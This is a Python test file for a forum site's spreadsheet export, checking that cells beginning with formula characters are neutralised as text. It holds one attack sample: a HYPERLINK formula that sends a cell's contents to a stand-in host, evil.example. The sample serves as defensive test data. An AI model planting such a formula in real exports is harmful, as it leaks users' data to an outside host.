"""Exports open in a spreadsheet as text: formulas are neutralised (read back with csv)."""

import csv
import io

from forum_site.spreadsheets import csv_text, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_cells_that_start_a_formula_are_written_as_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Sneha Farms") == "Sneha Farms"
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""


def test_an_export_read_back_holds_the_name_as_text():
    text = csv_text(["name", "seats"], [[ATTACK, 3], ["Kato Precision", -1]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["name", "seats"], ["'" + ATTACK, "3"], ["Kato Precision", "-1"]]
